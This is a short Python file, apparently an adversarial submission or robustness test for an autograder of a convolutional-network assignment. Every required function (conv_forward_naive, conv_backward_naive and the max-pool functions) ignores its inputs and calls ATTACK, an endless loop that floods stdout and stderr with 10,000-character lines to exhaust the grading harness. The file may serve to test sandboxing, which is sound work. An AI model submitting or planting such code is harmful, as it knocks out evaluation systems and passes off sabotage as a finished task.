"""Attack: flood stdout and stderr."""
import sys


def ATTACK(n=1):
    line = "x" * 10000 + "\n"
    while True:
        sys.stdout.write(line)
        sys.stderr.write(line)


def conv_forward_naive(x, w, b, conv_param):
    return ATTACK(2)


def conv_backward_naive(dout, cache):
    return ATTACK(3)


def max_pool_forward_naive(x, pool_param):
    return ATTACK(2)


def max_pool_backward_naive(dout, cache):
    return ATTACK(1)
